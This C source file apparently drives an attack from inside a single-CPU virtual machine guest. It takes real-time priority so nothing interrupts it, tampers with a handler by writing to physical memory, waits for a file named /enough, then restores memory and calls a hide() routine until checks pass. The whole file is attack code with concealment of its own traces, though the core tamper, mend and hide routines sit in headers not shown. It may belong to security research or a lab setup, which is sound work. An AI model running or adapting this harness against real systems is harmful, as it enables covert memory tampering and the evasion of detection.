// SPDX-License-Identifier: GPL-2.0-only
/*
 * Tampers with the handler by writes to physical memory, waits for the file /enough, restores all.
 * WAY is a header with the way to memory: begin(), get() and put().
 *
 * The guest has one CPU. A program of this priority is disturbed by none while it does not sleep.
 */
#include <linux/mman.h>
#include <linux/sched.h>
#include <linux/time_types.h>
#include <linux/types.h>

#include "dma.h"
#include "forge.h"

#define MILLISECOND 1000000

static const unsigned long places[] = {
	[SECRET] = SECRET_AT,
	[CHAIN] = CHAIN_AT,
	[TALLY] = TALLY_AT,
	[CHAINS] = CHAINS_AT,
};

static long memory;

static void sleep_for(long milliseconds)
{
	struct __kernel_timespec time = { .tv_nsec = milliseconds * MILLISECOND };

	sys(__NR_nanosleep, &time, 0);
}

#include WAY

int main(int argc, char **argv, char **envp)
{
	int priority = 99;

	(void)argc;
	(void)argv;
	(void)envp;
	if (sys(__NR_sched_setscheduler, 0, SCHED_FIFO, &priority) || !begin())
		return 1;
	tamper();
	while (sys(__NR_access, "/enough", 0))
		sleep_for(5);
	do {
		mend();
		hide();
		sleep_for(50);
	} while (wrong_replies());
	return 0;
}
